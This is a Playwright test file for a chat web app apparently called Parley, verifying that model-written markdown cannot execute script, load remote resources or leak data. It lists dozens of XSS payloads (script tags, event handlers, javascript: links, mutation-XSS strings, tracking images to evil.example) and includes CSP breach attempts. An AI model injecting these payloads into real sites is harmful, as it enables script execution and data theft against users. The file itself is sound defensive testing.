"""A model may write what it likes: nothing of it runs, loads, or leaves the page."""

import pytest
from playwright.async_api import Route, expect

from tests.page.conftest import Open, answered, say
from tests.support.scripted_upstream import ScriptedUpstream
from tests.support.service import ServiceProcess

pytestmark = pytest.mark.asyncio(loop_scope="session")

PAYLOADS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=https://evil.example/x.png>",
    "![pixel](https://evil.example/leak.png?q=secret)",
    '![x](x"onerror="window.hacked=1)',
    "[click](javascript:window.hacked=1)",
    "[click](&#106;avascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:window.hacked=1)",
    "<javascript:window.hacked=1>",
    "[ref]\n\n[ref]: javascript:window.hacked=1",
    '<a href="javascript:window.hacked=1">click</a>',
    "<svg onload=window.hacked=1><a xlink:href='javascript:window.hacked=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<iframe src='javascript:parent.hacked=1'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=x><button>go</button></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/)' class=welcome id=box>gotcha</div>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<video src=https://evil.example/x autoplay onloadstart=window.hacked=1></video>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<input autofocus onfocus=window.hacked=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
    '```html"><img src=x onerror=window.hacked=1>\n<img src=x onerror=window.hacked=1>\n```',
    "```js\n</code></pre><script>window.hacked=1</script>\n```",
    "| a |\n| - |\n| <img src=x onerror=window.hacked=1> |",
    "- <img src=x onerror=window.hacked=1>\n- <script>window.hacked=1</script>",
    "# <img src=x onerror=window.hacked=1>",
    "[a](https://ok.example/ \"' onmouseover='window.hacked=1\")",
    "<<script>script>window.hacked=1<</script>/script>",
    "<b onclick=window.hacked=1>bold</b> <br onclick=window.hacked=1>",
    "`<img src=x onerror=window.hacked=1>`",
    "&lt;img src=x onerror=window.hacked=1&gt;",
]


async def test_what_a_model_writes_neither_runs_nor_loads_anything(
    open_page: Open, upstream: ScriptedUpstream, service: ServiceProcess
) -> None:
    text = "\n\n".join(PAYLOADS)
    upstream.reply([text[at : at + 7] for at in range(0, len(text), 7)], reasoning=PAYLOADS[:3])
    page = await open_page()  # which fails on a dialog, a request to another host, and a breach of the policy
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await say(page, "<img src=x onerror=window.hacked=1>")
    await answered(page)

    async def harmless() -> None:
        assert await page.evaluate("window.hacked") is None
        found = await page.evaluate(
            """() => [...document.querySelectorAll('#thread *')].flatMap(node => [
              ...(/^(SCRIPT|IMG|IFRAME|STYLE|LINK|META|BASE|OBJECT|EMBED|VIDEO|FORM|MATH|NOSCRIPT)$/i.test(node.tagName)
                ? [node.tagName] : []),
              ...[...node.attributes].filter(a => /^on|^style$|^srcdoc$|^id$|^name$/i.test(a.name)).map(a => a.name),
              ...(node.matches('.markdown a') && !/^(https?|mailto):/.test(node.href || 'https:') ? [node.href] : []),
              ...(node.matches('.markdown a[href]')
                && !(node.rel.includes('noopener') && node.rel.includes('noreferrer') && node.target === '_blank')
                ? [node.outerHTML] : []),
            ])"""
        )
        assert found == []
        for link in await page.locator(".markdown a:not([href])").all():
            await link.click()
        assert await page.evaluate("window.hacked") is None
        assert await page.locator(".markdown .welcome").count() == 0

    await harmless()
    await expect(page.locator(".bubble")).to_have_text("<img src=x onerror=window.hacked=1>")
    # What the model talks about is shown as it stands.
    await expect(page.locator(".markdown")).to_contain_text("<script>window.hacked=1</script>")
    await page.reload()
    await answered(page)
    await harmless()
    assert {url.split("?")[0].split("/", 3)[:3][2] for url in asked if not url.startswith("data:")} == {
        service.url.removeprefix("http://")
    }


async def test_a_remote_image_is_a_link_and_nobody_is_asked_for_it(open_page: Open, upstream: ScriptedUpstream) -> None:
    upstream.reply(["See ![a cat](https://cats.example/cat.png) and <https://parley.example/>."])
    page = await open_page()
    await say(page, "Cat?")
    await answered(page)
    links = page.locator(".markdown a")
    await expect(links).to_have_text(["a cat", "https://parley.example/"])
    await expect(links.first).to_have_attribute("href", "https://cats.example/cat.png")
    await expect(links.first).to_have_attribute("rel", "noopener noreferrer nofollow")


async def test_the_policy_stops_a_script_that_gets_in_by_another_way(open_page: Open) -> None:
    page = await open_page(expected="Content Security Policy|requires 'Trusted")
    refused = await page.evaluate(
        """async () => {
          const breaches = []
          addEventListener('securitypolicyviolation', e => breaches.push(e.effectiveDirective))
          const thrown = []
          const attempt = code => { try { code() } catch (error) { thrown.push(error.name) } }
          attempt(() => { document.body.innerHTML = '<p>x</p>' })
          attempt(() => { document.createElement('script').src = 'https://evil.example/x.js' })
          attempt(() => document.body.setAttribute('onclick', 'alert(1)'))
          const image = new Image()
          image.src = 'https://evil.example/x.png'
          await fetch('https://evil.example/').catch(() => {})
          await new Promise(done => setTimeout(done, 0))
          return [thrown, [...new Set(breaches)].sort()]
        }"""
    )
    thrown, breaches = refused
    assert thrown == ["TypeError", "TypeError", "TypeError"]
    assert {"connect-src", "img-src", "require-trusted-types-for"} <= set(breaches)


async def test_all_that_the_page_asks_for_is_its_own(
    open_page: Open, upstream: ScriptedUpstream, service: ServiceProcess
) -> None:
    page = await open_page()
    asked: list[str] = []

    async def note(route: Route) -> None:
        asked.append(route.request.url)
        await route.continue_()

    await page.context.route("**/*", note)
    await page.reload()
    await say(page, "Hello\n\n```js\nlet x = 1\n```")
    await answered(page)
    await page.click("#sidebar .new-chat")
    assert len(asked) > 10
    assert [url for url in asked if not url.startswith(service.url + "/")] == []


async def test_the_documentation_keeps_its_policy(open_page: Open, service: ServiceProcess) -> None:
    page = await open_page()
    await page.goto(service.url + "/docs")
    await expect(page.locator("h1")).to_contain_text("Parley")
    assert await page.evaluate("getComputedStyle(document.body).maxWidth") == "960px"  # its style is let in
